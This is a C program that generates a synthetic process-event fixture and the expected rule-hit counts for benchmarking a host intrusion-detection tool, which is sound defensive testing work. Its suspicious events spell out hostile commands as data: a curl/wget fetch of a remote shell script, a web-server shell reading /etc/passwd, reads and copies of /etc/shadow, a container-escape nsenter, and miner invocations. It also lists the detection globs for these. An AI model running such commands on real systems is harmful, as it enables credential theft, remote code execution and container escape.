/* gen_fixture N OUT.jsonl EXPECTED: a deterministic JSON-lines fixture for
 * the replay benchmark, in the format --record writes (one event per line,
 * the event table's field names, process context captured: exe argv uid
 * euid user ppid comm cgroup start_time, a "parent" process object ...).
 *
 * The mix: exec 40 % (mostly benign, with near misses of every rule, and
 * about 12 % suspicious), fork 28 %, exit 27 % (1 % SIGSEGV), uid 2 %,
 * gid 1 %, comm 1 %, ptrace 0.5 %, sid 0.5 %.
 *
 * EXPECTED gets "RULE COUNT" lines: how often each rule of rules.lua must
 * fire on this fixture, computed by C mirrors of the rules (fnmatch for the
 * globs, as procwarden does), the throttle included; then "total COUNT". */
#define _GNU_SOURCE
#include <fnmatch.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { R_MINERS, R_WEBSHELL, R_SETUID, R_PTRACE, R_HTTP, R_TMP, R_SHADOW, R_SUDO, R_NSENTER, R_SEGV, R__N };
static const char *const rule_names[R__N] = {
	"miners", "web-shell", "setuid-root", "ptrace-attach", "http-download",
	"tmp-exec", "shadow-read", "sudo-by-user", "nsenter-in-container", "segfault",
};
static long expected[R__N];

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint64_t rnd(void)
{
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return rng * 2685821657736338717ull;
}
static int pick(int n) { return (int)(rnd() % (uint64_t)n); }

struct user { int uid; const char *name; const char *cgroup; };
static const struct user users[] = {
	{0, "root", "/system.slice/cron.service"},
	{1000, "alice", "/user.slice/user-1000.slice/session-3.scope"},
	{1001, "admin", "/user.slice/user-1001.slice/session-7.scope"},
	{1002, "bob", "/user.slice/user-1002.slice/session-12.scope"},
	{1003, "carol", "/user.slice/user-1003.slice/user@1003.service/app.slice/code.scope"},
	{33, "www-data", "/system.slice/nginx.service"},
};
#define U_ROOT 0
#define U_ALICE 1
#define U_ADMIN 2
#define U_BOB 3
#define U_CAROL 4
#define U_WWW 5

#define MAXARGV 8
struct ev {
	const char *type;
	int pid, tgid, cpu, ppid;
	const struct user *u;
	const char *exe, *comm, *cgroup;
	const char *argv[MAXARGV];
	int argc;
	const char *parent_exe, *parent_comm;
	char buf[512]; /* storage for generated strings */
};

static const char *const docker_cgroup =
	"/system.slice/docker-4f1c2b9e8a7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a3928170f6e5d4c.scope";

/* ---- the rules, mirrored ---- */

static int any_glob(const char *s, const char *const *pats, int n)
{
	for (int i = 0; s && i < n; i++)
		if (fnmatch(pats[i], s, 0) == 0)
			return 1;
	return 0;
}
static int in_set(const char *s, const char *const *set, int n)
{
	for (int i = 0; s && i < n; i++)
		if (strcmp(s, set[i]) == 0)
			return 1;
	return 0;
}

#define NTMP 40
static int tmp_seen[NTMP + 1];

static void judge_exec(const struct ev *e)
{
	static const char *const miners[] = {"*/xmrig", "*/minerd", "*/cpuminer", "*/ethminer", "*/nbminer"};
	static const char *const webs[] = {"*/httpd", "*/nginx", "*/apache2", "*/php-fpm*"};
	static const char *const shells[] = {"/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/sh", "/usr/bin/bash", "/usr/bin/dash"};
	static const char *const dl[] = {"*/curl", "*/wget"};
	if (any_glob(e->exe, miners, 5))
		expected[R_MINERS]++;
	if (any_glob(e->parent_exe, webs, 4) && in_set(e->exe, shells, 6))
		expected[R_WEBSHELL]++;
	if (any_glob(e->exe, dl, 2))
		for (int i = 0; i < e->argc; i++)
			if (strncmp(e->argv[i], "http://", 7) == 0) {
				expected[R_HTTP]++;
				break;
			}
	if (strncmp(e->exe, "/tmp/", 5) == 0) {
		/* throttle { key = "exe", count = 3, per = 86400 }: the fixture's
		 * /tmp executables are /tmp/.cache/payloadK (K < NTMP) or a miner */
		int k = NTMP;
		if (sscanf(e->exe, "/tmp/.cache/payload%d", &k) != 1 || k < 0 || k >= NTMP)
			k = NTMP;
		if (tmp_seen[k]++ < 3)
			expected[R_TMP]++;
	}
	for (int i = 0; i < e->argc; i++)
		if (strstr(e->argv[i], "/etc/shadow")) {
			expected[R_SHADOW]++;
			break;
		}
	if (strcmp(e->exe, "/usr/bin/sudo") == 0 && e->u->uid >= 1000 && strcmp(e->u->name, "admin") != 0)
		expected[R_SUDO]++;
	if (strncmp(e->cgroup, "/system.slice/docker-", 21) == 0 && fnmatch("*/nsenter", e->exe, 0) == 0)
		expected[R_NSENTER]++;
}

/* ---- output ---- */

static FILE *out;
static long line_no;
static long next_pid = 4000;
static long long ktime = 1000000000000LL;
static double wall = 1795600000.0;

static int new_pid(void)
{
	next_pid += 1 + pick(3);
	if (next_pid > 4000000)
		next_pid = 4000;
	return (int)next_pid;
}

static void common(const char *type, int pid, int tgid)
{
	ktime += 20000 + pick(2000000); /* ~1 ms apart: 500k events span ~10 minutes */
	double t = wall + (double)(ktime - 1000000000000LL) / 1e9;
	fprintf(out, "{\"type\":\"%s\",\"pid\":%d,\"tgid\":%d,\"cpu\":%d,\"ktime_ns\":%lld,\"time\":%.6f", type, pid,
		tgid, pick(2), ktime, t);
}

static void ctx(const struct user *u, const char *exe, const char *comm, int ppid, const char *cgroup)
{
	fprintf(out,
		",\"exe\":\"%s\",\"comm\":\"%s\",\"ppid\":%d,\"uid\":%d,\"euid\":%d,\"gid\":%d,\"egid\":%d,"
		"\"user\":\"%s\",\"euser\":\"%s\",\"cgroup\":\"%s\",\"start_time\":%lld",
		exe, comm, ppid, u->uid, u->uid, u->uid, u->uid, u->name, u->name, cgroup, ktime / 10000000);
}

static void emit_exec(struct ev *e)
{
	common("exec", e->pid, e->pid);
	ctx(e->u, e->exe, e->comm, e->ppid, e->cgroup);
	fputs(",\"argv\":[", out);
	for (int i = 0; i < e->argc; i++)
		fprintf(out, "%s\"%s\"", i ? "," : "", e->argv[i]);
	fputs("],\"argv_truncated\":false", out);
	if (e->parent_exe)
		fprintf(out, ",\"parent\":{\"pid\":%d,\"tgid\":%d,\"exe\":\"%s\",\"comm\":\"%s\",\"uid\":%d,\"user\":\"%s\"}",
			e->ppid, e->ppid, e->parent_exe, e->parent_comm, e->u->uid, e->u->name);
	fputs("}\n", out);
	judge_exec(e);
}

#define ARGV(...)                                                                  \
	do {                                                                       \
		const char *a_[] = {__VA_ARGS__};                                  \
		e.argc = (int)(sizeof a_ / sizeof a_[0]);                          \
		memcpy(e.argv, a_, sizeof a_);                                     \
	} while (0)

static void gen_exec(void)
{
	struct ev e;
	memset(&e, 0, sizeof e);
	e.pid = new_pid();
	e.ppid = e.pid - 1 - pick(50);
	e.u = &users[U_ALICE];
	e.cgroup = e.u->cgroup;
	e.parent_exe = "/bin/bash";
	e.parent_comm = "bash";
	int r = pick(1000);
	if (r < 880) { /* benign, near misses included */
		switch (pick(16)) {
		case 0: e.exe = "/usr/bin/git"; e.comm = "git"; ARGV("git", "status", "--short"); break;
		case 1: e.u = &users[U_BOB]; e.exe = "/usr/bin/ls"; e.comm = "ls"; ARGV("ls", "-la", "/var/log"); break;
		case 2: e.exe = "/usr/bin/python3.11"; e.comm = "python3"; ARGV("python3", "-m", "pytest", "-q", "tests/"); break;
		case 3: e.u = &users[U_CAROL]; e.exe = "/usr/bin/make"; e.comm = "make"; ARGV("make", "-j2", "all"); break;
		case 4: e.exe = "/usr/bin/x86_64-linux-gnu-gcc-12"; e.comm = "cc"; ARGV("cc", "-O2", "-c", "-o", "obj/main.o", "src/main.c"); e.parent_exe = "/usr/bin/make"; e.parent_comm = "make"; break;
		case 5: e.exe = "/usr/bin/grep"; e.comm = "grep"; ARGV("grep", "-rn", "TODO", "src"); break;
		case 6: e.exe = "/usr/bin/curl"; e.comm = "curl"; ARGV("curl", "-fsSL", "https://example.com/install.sh"); break; /* https: no */
		case 7: e.exe = "/usr/bin/bash"; e.comm = "bash"; ARGV("-bash"); e.parent_exe = "/usr/sbin/sshd"; e.parent_comm = "sshd"; break; /* not a web server */
		case 8: e.u = &users[U_ROOT]; e.cgroup = e.u->cgroup; e.exe = "/bin/sh"; e.comm = "sh"; ARGV("/bin/sh", "-c", "run-parts /etc/cron.hourly"); e.parent_exe = "/usr/sbin/cron"; e.parent_comm = "cron"; break;
		case 9: e.u = &users[U_ROOT]; e.cgroup = e.u->cgroup; e.exe = "/usr/bin/sudo"; e.comm = "sudo"; ARGV("sudo", "systemctl", "restart", "nginx"); break; /* root: no */
		case 10: e.u = &users[U_ADMIN]; e.cgroup = e.u->cgroup; e.exe = "/usr/bin/sudo"; e.comm = "sudo"; ARGV("sudo", "apt-get", "upgrade"); break; /* admin: no */
		case 11: e.exe = "/usr/bin/cat"; e.comm = "cat"; ARGV("cat", "/etc/hosts"); break;
		case 12: e.u = &users[U_ROOT]; e.cgroup = e.u->cgroup; e.exe = "/usr/bin/nsenter"; e.comm = "nsenter"; ARGV("nsenter", "-t", "1", "-m", "--", "mount"); break; /* host: no */
		case 13: e.exe = "/opt/xmrig/bin/xmrig-notes"; e.comm = "xmrig-notes"; ARGV("xmrig-notes", "--help"); break; /* glob is whole-value: no */
		case 14: e.u = &users[U_WWW]; e.cgroup = e.u->cgroup; e.exe = "/usr/bin/php8.2"; e.comm = "php"; ARGV("php", "/var/www/cron.php"); e.parent_exe = "/usr/sbin/nginx"; e.parent_comm = "nginx"; break; /* not a shell */
		default: e.exe = "/usr/bin/wget"; e.comm = "wget"; ARGV("wget", "-q", "-O", "-", "https://deb.example.org/key.asc"); break;
		}
	} else { /* suspicious */
		static const char *const miner_exes[] = {"/tmp/.x/xmrig", "/home/bob/.cache/minerd", "/var/tmp/cpuminer",
							"/opt/ethminer/ethminer", "/dev/shm/nbminer"};
		static const char *const web_parents[] = {"/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/sbin/php-fpm8.2", "/usr/sbin/httpd"};
		static const char *const web_comms[] = {"nginx", "apache2", "php-fpm8.2", "httpd"};
		static const char *const shells[] = {"/bin/sh", "/bin/bash", "/usr/bin/dash"};
		int k;
		switch (pick(7)) {
		case 0:
			e.u = &users[U_BOB]; e.cgroup = e.u->cgroup;
			e.exe = miner_exes[pick(5)]; e.comm = strrchr(e.exe, '/') + 1;
			ARGV(e.comm, "-o", "pool.example.net:3333", "--donate-level", "1");
			break;
		case 1:
			e.u = &users[U_WWW]; e.cgroup = e.u->cgroup;
			k = pick(4); e.parent_exe = web_parents[k]; e.parent_comm = web_comms[k];
			e.exe = shells[pick(3)]; e.comm = strrchr(e.exe, '/') + 1;
			ARGV("sh", "-c", "id; uname -a; cat /etc/passwd");
			break;
		case 2:
			e.exe = pick(2) ? "/usr/bin/curl" : "/usr/bin/wget"; e.comm = strrchr(e.exe, '/') + 1;
			ARGV(e.comm, "-s", "http://203.0.113.7/x.sh");
			break;
		case 3:
			k = pick(NTMP);
			snprintf(e.buf, sizeof e.buf, "/tmp/.cache/payload%d", k);
			e.exe = e.buf; e.comm = "payload";
			ARGV("./payload", "--daemon");
			break;
		case 4:
			e.u = &users[pick(2) ? U_BOB : U_ROOT]; e.cgroup = e.u->cgroup;
			if (pick(2)) { e.exe = "/usr/bin/cat"; e.comm = "cat"; ARGV("cat", "/etc/shadow"); }
			else { e.exe = "/usr/bin/cp"; e.comm = "cp"; ARGV("cp", "/etc/shadow", "/tmp/s"); }
			break;
		case 5:
			e.u = &users[(int[]){U_ALICE, U_BOB, U_CAROL}[pick(3)]]; e.cgroup = e.u->cgroup;
			e.exe = "/usr/bin/sudo"; e.comm = "sudo"; ARGV("sudo", "-i");
			break;
		default:
			e.u = &users[U_ROOT]; e.cgroup = docker_cgroup;
			e.exe = "/usr/bin/nsenter"; e.comm = "nsenter";
			ARGV("nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh");
			e.parent_exe = "/usr/bin/containerd-shim-runc-v2"; e.parent_comm = "containerd-shim";
			break;
		}
	}
	emit_exec(&e);
}

static const struct user *any_user(void) { return &users[pick(6)]; }

static void gen_fork(void)
{
	const struct user *u = any_user();
	int parent = new_pid(), child = new_pid(), thread = pick(4) == 0;
	int ptgid = thread ? parent : parent - 1;
	int ctgid = thread ? ptgid : child;
	common("fork", child, ctgid);
	fprintf(out, ",\"parent_pid\":%d,\"parent_tgid\":%d,\"child_pid\":%d,\"child_tgid\":%d", parent, ptgid, child, ctgid);
	ctx(u, thread ? "/usr/lib/jvm/java-17-openjdk-amd64/bin/java" : "/bin/bash", thread ? "java" : "bash", ptgid, u->cgroup);
	fputs("}\n", out);
}

static void gen_exit(void)
{
	const struct user *u = any_user();
	int pid = new_pid();
	int r = pick(1000);
	int code, sig = 0;
	if (r < 10) sig = 11;
	else if (r < 20) sig = 9;
	else if (r < 30) sig = 15;
	common("exit", pid, pid);
	if (sig) {
		code = sig | (sig == 11 ? 0x80 : 0);
		fprintf(out, ",\"exit_code\":%d,\"exit_signal\":17,\"parent_pid\":%d,\"parent_tgid\":%d,\"term_signal\":%d,\"core_dumped\":%s",
			code, pid - 7, pid - 7, sig, sig == 11 ? "true" : "false");
		if (sig == 11)
			expected[R_SEGV]++;
	} else {
		int st = pick(10) == 0 ? 1 : 0;
		fprintf(out, ",\"exit_code\":%d,\"exit_signal\":17,\"parent_pid\":%d,\"parent_tgid\":%d,\"exit_status\":%d,\"core_dumped\":false",
			st << 8, pid - 7, pid - 7, st);
	}
	ctx(u, sig == 11 ? "/usr/local/bin/flaky-worker" : "/usr/bin/ls", sig == 11 ? "flaky-worker" : "ls", pid - 7, u->cgroup);
	fputs("}\n", out);
}

static void gen_uid(void)
{
	int pid = new_pid();
	int ruid, euid;
	const char *exe;
	switch (pick(3)) {
	case 0: ruid = 1000; euid = 0; exe = "/usr/bin/passwd"; break; /* fires */
	case 1: ruid = 0; euid = 0; exe = "/usr/sbin/sshd"; break;
	default: ruid = 1002; euid = 1002; exe = "/usr/sbin/sshd"; break;
	}
	if (euid == 0 && ruid != 0)
		expected[R_SETUID]++;
	common("uid", pid, pid);
	fprintf(out, ",\"exe\":\"%s\",\"comm\":\"%s\",\"ppid\":%d,\"uid\":%d,\"gid\":%d,\"egid\":%d,\"user\":\"%s\",\"euser\":\"%s\","
		"\"cgroup\":\"%s\",\"prev_ruid\":%d,\"prev_euid\":%d,\"ruid\":%d,\"euid\":%d}\n",
		exe, strrchr(exe, '/') + 1, pid - 3, ruid, ruid, ruid, ruid ? "alice" : "root", euid ? "alice" : "root",
		users[U_ALICE].cgroup, ruid, ruid, ruid, euid);
}

static void gen_gid(void)
{
	const struct user *u = any_user();
	int pid = new_pid();
	common("gid", pid, pid);
	fprintf(out, ",\"rgid\":%d,\"egid\":%d,\"prev_rgid\":%d,\"prev_egid\":%d", u->uid, u->uid, 0, 0);
	fprintf(out, ",\"exe\":\"/usr/sbin/sshd\",\"comm\":\"sshd\",\"ppid\":%d,\"uid\":%d,\"user\":\"%s\",\"cgroup\":\"%s\"}\n",
		pid - 2, u->uid, u->name, u->cgroup);
}

static void gen_ptrace(void)
{
	int pid = new_pid();
	int tracer = pick(3) ? pid - 11 : 0;
	if (tracer)
		expected[R_PTRACE]++;
	common("ptrace", pid, pid);
	fprintf(out, ",\"tracer_pid\":%d,\"tracer_tgid\":%d", tracer, tracer);
	ctx(&users[U_ALICE], "/usr/bin/python3.11", "python3", pid - 20, users[U_ALICE].cgroup);
	fputs("}\n", out);
}

static void gen_comm(void)
{
	const struct user *u = any_user();
	int pid = new_pid();
	common("comm", pid, pid);
	fprintf(out, ",\"comm\":\"worker-%d\",\"exe\":\"/usr/bin/python3.11\",\"ppid\":%d,\"uid\":%d,\"user\":\"%s\",\"cgroup\":\"%s\"}\n",
		pick(8), pid - 1, u->uid, u->name, u->cgroup);
}

static void gen_sid(void)
{
	const struct user *u = any_user();
	int pid = new_pid();
	common("sid", pid, pid);
	ctx(u, "/usr/bin/setsid", "setsid", pid - 1, u->cgroup);
	fputs("}\n", out);
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: gen_fixture N OUT.jsonl EXPECTED\n");
		return 2;
	}
	long n = atol(argv[1]);
	out = fopen(argv[2], "w");
	if (!out) {
		perror(argv[2]);
		return 1;
	}
	static char obuf[1 << 20];
	setvbuf(out, obuf, _IOFBF, sizeof obuf);
	for (line_no = 0; line_no < n; line_no++) {
		int r = pick(1000);
		if (r < 400) gen_exec();
		else if (r < 680) gen_fork();
		else if (r < 950) gen_exit();
		else if (r < 970) gen_uid();
		else if (r < 980) gen_gid();
		else if (r < 990) gen_comm();
		else if (r < 995) gen_ptrace();
		else gen_sid();
	}
	if (fclose(out) != 0) {
		perror(argv[2]);
		return 1;
	}
	FILE *ex = fopen(argv[3], "w");
	if (!ex) {
		perror(argv[3]);
		return 1;
	}
	long total = 0;
	for (int i = 0; i < R__N; i++) {
		fprintf(ex, "%s %ld\n", rule_names[i], expected[i]);
		total += expected[i];
	}
	fprintf(ex, "total %ld\n", total);
	fclose(ex);
	return 0;
}
